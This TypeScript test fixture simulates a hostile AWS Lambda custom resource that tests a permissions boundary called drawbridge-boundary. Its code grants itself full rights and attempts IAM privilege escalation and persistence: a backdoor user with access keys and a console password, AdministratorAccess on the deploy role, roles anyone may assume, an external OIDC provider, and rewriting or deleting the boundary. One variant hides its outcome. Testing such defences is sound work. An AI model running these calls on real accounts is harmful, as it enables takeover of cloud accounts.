/** What the function of test/fixtures/hostile-runtime/custom-resource.yaml would do in an account, were it somebody's code. */
import {
  AttachRolePolicyCommand,
  CreateAccessKeyCommand,
  CreateLoginProfileCommand,
  CreateOpenIDConnectProviderCommand,
  CreatePolicyVersionCommand,
  CreateRoleCommand,
  CreateSAMLProviderCommand,
  CreateUserCommand,
  DeleteRolePermissionsBoundaryCommand,
  GetRoleCommand,
  IAMClient,
  PutRolePermissionsBoundaryCommand,
  UpdateAssumeRolePolicyCommand,
} from '@aws-sdk/client-iam';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import type { StandIn } from '#sandbox/lambda/registry.ts';

interface Victim {
  readonly iam: IAMClient;
  readonly account: string;
  /** The function's own role. */
  readonly role: string;
}

export interface Attempt {
  readonly what: string;
  readonly action: string;
  /** The statement of drawbridge-boundary that is to stop it. */
  readonly statement: string;
  readonly make: (victim: Victim) => Promise<unknown>;
}

const everything = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
});
const administrator = 'arn:aws:iam::aws:policy/AdministratorAccess';
const UserName = 'eve';

const anyone = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: '*', Action: 'sts:AssumeRole' }] };

/** In the order in which they are made: what would free the function itself comes last. */
export const attempts: readonly Attempt[] = [
  {
    what: 'a user',
    action: 'iam:CreateUser',
    statement: 'NoUsersAndNoStaticCredentials',
    make: ({ iam }) => iam.send(new CreateUserCommand({ UserName })),
  },
  {
    what: 'an access key',
    action: 'iam:CreateAccessKey',
    statement: 'NoUsersAndNoStaticCredentials',
    make: ({ iam }) => iam.send(new CreateAccessKeyCommand({ UserName })),
  },
  {
    what: 'a way into the console',
    action: 'iam:CreateLoginProfile',
    statement: 'NoUsersAndNoStaticCredentials',
    make: ({ iam }) => iam.send(new CreateLoginProfileCommand({ UserName, Password: 'correct-horse' })),
  },
  {
    what: 'a role without the boundary',
    action: 'iam:CreateRole',
    statement: 'RolesOnlyInsideThisBoundary',
    make: ({ iam, account }) =>
      iam.send(new CreateRoleCommand({ RoleName: 'eve', AssumeRolePolicyDocument: JSON.stringify(trusting(account)) })),
  },
  {
    what: 'more rights for drawbridge-deploy',
    action: 'iam:AttachRolePolicy',
    statement: 'RolesOnlyInsideThisBoundary',
    make: ({ iam }) =>
      iam.send(new AttachRolePolicyCommand({ RoleName: 'drawbridge-deploy', PolicyArn: administrator })),
  },
  {
    what: 'a wider trust of drawbridge-deploy',
    action: 'iam:UpdateAssumeRolePolicy',
    statement: 'PrivilegedRolesAreFixed',
    make: widenTrust,
  },
  {
    what: 'a role inside the boundary that anyone may assume',
    action: 'iam:CreateRole',
    statement: 'OnlyStacksMakeRoles',
    make: ({ iam, account }) =>
      iam.send(
        new CreateRoleCommand({
          RoleName: 'door',
          AssumeRolePolicyDocument: JSON.stringify(anyone),
          PermissionsBoundary: `arn:aws:iam::${account}:policy/drawbridge/drawbridge-boundary`,
        }),
      ),
  },
  {
    what: 'its own role open to anyone',
    action: 'iam:UpdateAssumeRolePolicy',
    statement: 'OnlyStacksMakeRoles',
    make: ({ iam, role }) =>
      iam.send(new UpdateAssumeRolePolicyCommand({ RoleName: role, PolicyDocument: JSON.stringify(anyone) })),
  },
  {
    what: 'an OIDC provider',
    action: 'iam:CreateOpenIDConnectProvider',
    statement: 'NoWaysInFromOutside',
    make: ({ iam }) =>
      iam.send(new CreateOpenIDConnectProviderCommand({ Url: 'https://eve.example', ClientIDList: ['sts'] })),
  },
  {
    what: 'a SAML provider',
    action: 'iam:CreateSAMLProvider',
    statement: 'NoWaysInFromOutside',
    make: ({ iam }) => iam.send(new CreateSAMLProviderCommand({ Name: 'eve', SAMLMetadataDocument: 'x'.repeat(1000) })),
  },
  {
    what: 'another boundary under the same name',
    action: 'iam:CreatePolicyVersion',
    statement: 'BoundaryIsFixed',
    make: ({ iam, account }) =>
      iam.send(
        new CreatePolicyVersionCommand({
          PolicyArn: `arn:aws:iam::${account}:policy/drawbridge/drawbridge-boundary`,
          PolicyDocument: everything,
          SetAsDefault: true,
        }),
      ),
  },
  {
    what: 'another boundary for its own role',
    action: 'iam:PutRolePermissionsBoundary',
    statement: 'RolesOnlyInsideThisBoundary',
    make: ({ iam, role }) =>
      iam.send(new PutRolePermissionsBoundaryCommand({ RoleName: role, PermissionsBoundary: administrator })),
  },
  {
    what: 'no boundary for its own role',
    action: 'iam:DeleteRolePermissionsBoundary',
    statement: 'BoundaryStays',
    make: ({ iam, role }) => iam.send(new DeleteRolePermissionsBoundaryCommand({ RoleName: role })),
  },
];

async function widenTrust({ iam, account }: Victim): Promise<unknown> {
  const RoleName = 'drawbridge-deploy';
  const { Role } = await iam.send(new GetRoleCommand({ RoleName }));
  const trust = JSON.parse(decodeURIComponent(Role!.AssumeRolePolicyDocument!)) as { Statement: object[] };
  const wider = { ...trust, Statement: [...trust.Statement, ...trusting(account).Statement] };
  return iam.send(new UpdateAssumeRolePolicyCommand({ RoleName, PolicyDocument: JSON.stringify(wider) }));
}

const trusting = (account: string) => ({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${account}:root` }, Action: 'sts:AssumeRole' }],
});

interface CustomRequest {
  readonly RequestType: 'Create' | 'Update' | 'Delete';
  readonly ResponseURL: string;
  readonly StackId: string;
  readonly RequestId: string;
  readonly LogicalResourceId: string;
  readonly ResourceProperties: { readonly Rights: string };
}

/** Gives itself all rights, makes every attempt, and says that it failed only if it got no user. */
export const hostileFunction: StandIn = (event, context) => beHostile(event, context, ([user]) => user);

/** The same, but hides behind a stack that failed, whatever it got. */
export const hidingFunction: StandIn = (event, context) => beHostile(event, context, () => 'Sorry, try again.');

type Failures = readonly (string | undefined)[];

async function beHostile(
  event: unknown,
  { environment }: Parameters<StandIn>[1],
  failureOf: (failures: Failures) => string | undefined,
): Promise<void> {
  const request = event as CustomRequest;
  if (request.RequestType !== 'Create') return respond(request, undefined);
  const victim = await victimOf(environment);
  const { Rights: PolicyArn } = request.ResourceProperties;
  const own = new CreatePolicyVersionCommand({ PolicyArn, PolicyDocument: everything, SetAsDefault: true });
  await victim.iam.send(own);
  const failures: (string | undefined)[] = [];
  for (const { make } of attempts) {
    failures.push(
      await make(victim).then(
        () => undefined,
        (error: Error) => error.message,
      ),
    );
  }
  return respond(request, failureOf(failures));
}

async function victimOf(environment: Readonly<Record<string, string>>): Promise<Victim> {
  const configuration = {
    endpoint: environment['AWS_ENDPOINT_URL']!,
    region: environment['AWS_REGION']!,
    credentials: {
      accessKeyId: environment['AWS_ACCESS_KEY_ID']!,
      secretAccessKey: environment['AWS_SECRET_ACCESS_KEY']!,
      sessionToken: environment['AWS_SESSION_TOKEN']!,
    },
  };
  const { Account, Arn } = await new STSClient(configuration).send(new GetCallerIdentityCommand({}));
  return { iam: new IAMClient(configuration), account: Account!, role: Arn!.split('/')[1]! };
}

async function respond(request: CustomRequest, failure: string | undefined): Promise<void> {
  const { StackId, RequestId, LogicalResourceId, ResponseURL } = request;
  const status = failure === undefined ? { Status: 'SUCCESS' } : { Status: 'FAILED', Reason: failure };
  const document = { ...status, PhysicalResourceId: 'setup', StackId, RequestId, LogicalResourceId };
  await fetch(ResponseURL, { method: 'PUT', body: JSON.stringify(document) });
}
